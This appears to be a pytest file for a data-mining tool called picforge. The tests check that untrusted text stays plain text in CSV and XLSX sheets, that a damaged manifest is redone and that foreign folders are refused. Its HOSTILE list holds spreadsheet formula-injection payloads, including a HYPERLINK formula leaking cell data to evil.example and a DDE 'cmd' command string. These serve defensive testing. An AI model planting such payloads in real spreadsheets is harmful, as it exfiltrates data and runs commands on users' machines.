"""Untrusted text never becomes a formula in a sheet; a damaged manifest is redone; a folder picforge did not
write is refused, its files kept."""
import csv
import io
import shutil

import openpyxl

from picforge import cli
from picforge.rundir import MANIFEST, RunDir
from picforge.sheets import FORMULA_STARTS, NUMBER, read_sheet, write_sheet
from pipeline.mine import CANDIDATES_CSV, mine
from pipeline.stages.select import candidates_csv

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&B2,"see source")', "@SUM(A1:A9)", "+1+cmd|' /C calc'!A0",
           "-2+3", "\t=1+1", "\r=1+1", "'=already quoted", "-0.5", "plain text"]


def test_hostile_cells_are_text_in_xlsx_and_csv_and_read_back_unchanged(tmp_path):
    rows = [{"id": str(n), "answer": text} for n, text in enumerate(HOSTILE)]
    csv_path, xlsx_path = write_sheet(str(tmp_path / "returned"), ["id", "answer"], rows)

    in_xml = [text.replace("\r", "\n") for text in HOSTILE]  # XML reads every line end back as LF
    sheet = openpyxl.load_workbook(xlsx_path).active
    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert [c.value for c in cells] == in_xml and {c.data_type for c in cells} == {"s"}

    with open(csv_path, encoding="utf-8-sig", newline="") as fh:
        written = [row[1] for row in csv.reader(fh)][1:]
    assert not [text for text in written if text.startswith(FORMULA_STARTS) and text != "-0.5"]

    trimmed = [text.strip() for text in HOSTILE]  # the readers trim every cell's surrounding whitespace
    for path in (csv_path, xlsx_path):
        assert [row["answer"] for _, row in read_sheet(path, ["id", "answer"]).rows] == trimmed


def test_a_wikipedia_title_starting_with_a_formula_stays_text_in_the_candidates_csv(finished_run):
    triplets = [dict(t, page1=dict(t["page1"], title=HOSTILE[0]), page2=dict(t["page2"], title="@cmd"))
                for t in finished_run[2]]
    rows = list(csv.DictReader(io.StringIO(candidates_csv(triplets))))
    assert rows and all(NUMBER.fullmatch(value) or not value.startswith(FORMULA_STARTS)
                        for row in rows for value in row.values())


def test_a_damaged_manifest_is_redone(finished_run, wic_zip, tmp_path):
    dump, finished, triplets, candidates = finished_run
    out = tmp_path / "run"
    shutil.copytree(finished, out)
    manifest = out / "select" / MANIFEST
    manifest.write_bytes(manifest.read_bytes()[: manifest.stat().st_size // 2])  # cut mid-write
    funnel = mine(dump, str(wic_zip), str(out))
    assert RunDir(str(out)).require("select")["records"] == len(triplets) == funnel[-1]["count"]
    assert list(RunDir(str(out)).iter_records("select")) == triplets
    assert (out / CANDIDATES_CSV).read_text() == candidates


def test_a_folder_holding_files_picforge_did_not_write_is_refused(finished_run, wic_zip, tmp_path, capsys):
    dump = finished_run[0]
    out = tmp_path / "my-folder"
    (out / "clean").mkdir(parents=True)
    (out / "clean" / "notes.txt").write_text("my own notes\n")
    assert cli.main(["mine", "--input", dump, "--wic", str(wic_zip), "--out", str(out)]) == 2
    last = capsys.readouterr().err.strip().splitlines()[-1]
    assert last.startswith("picforge: error:") and "notes.txt" in last
    assert (out / "clean" / "notes.txt").read_text() == "my own notes\n"
